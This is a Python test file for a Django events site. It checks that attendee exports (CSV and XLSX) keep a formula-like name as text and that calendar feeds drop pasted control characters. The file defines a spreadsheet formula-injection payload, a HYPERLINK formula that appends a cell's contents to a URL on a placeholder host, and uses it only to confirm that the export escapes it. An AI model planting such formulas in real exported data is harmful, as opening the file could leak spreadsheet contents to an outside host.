"""An attendee's name reaches the coordinator's spreadsheet as text, never as a formula."""

import csv
import io

import openpyxl
import pytest
from icalendar import Calendar

from assemblies.coordinators import ensure_coordinator_group
from events import registrations
from tests.conftest import publish
from tests.events.conftest import at, make_event
from tests.factories import AssemblyPageFactory, UserFactory

HOSTILE = '=HYPERLINK("http://ornek.test/?d="&A1,"Tıkla")'


@pytest.mark.django_db
def test_the_attendee_exports_keep_a_formula_like_name_as_text(client, assembly_index):
    kadin = publish(AssemblyPageFactory(parent=assembly_index, title="Kadın Meclisi", slug="kadin-meclisi"))
    coordinator = UserFactory()
    coordinator.groups.add(ensure_coordinator_group(kadin))
    event = make_event(kadin, title="Atölye", starts_at=at(2027, 3, 1, 10), registration="signed_in", capacity=5)
    registrations.register(event, UserFactory(first_name=HOSTILE, last_name="Çelik\x0b"))
    client.force_login(coordinator)

    response = client.get(f"/admin/events/{event.pk}/attendees/?export=csv")
    (row,) = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))
    assert row["Ad"] == "'" + HOSTILE + " Çelik"

    response = client.get(f"/admin/events/{event.pk}/attendees/?export=xlsx")
    assert response.status_code == 200
    name = openpyxl.load_workbook(io.BytesIO(response.content)).active["A2"]
    assert name.value == HOSTILE + " Çelik" and name.data_type == "s"


@pytest.mark.django_db
def test_a_pasted_control_character_never_reaches_a_calendar_feed(client, assembly_index):
    kadin = publish(AssemblyPageFactory(parent=assembly_index, title="Kadın Meclisi", slug="kadin-meclisi"))
    event = make_event(kadin, title="Kadın\x0b sağlığı semineri", starts_at=at(2027, 3, 1, 10))
    content = client.get(f"/takvim/etkinlik/{event.pk}.ics").content
    assert b"\x0b" not in content  # RFC 5545 text holds no control characters; clients drop the whole feed
    (component,) = Calendar.from_ical(content).walk("VEVENT")
    assert str(component["summary"]) == "Kadın sağlığı semineri"
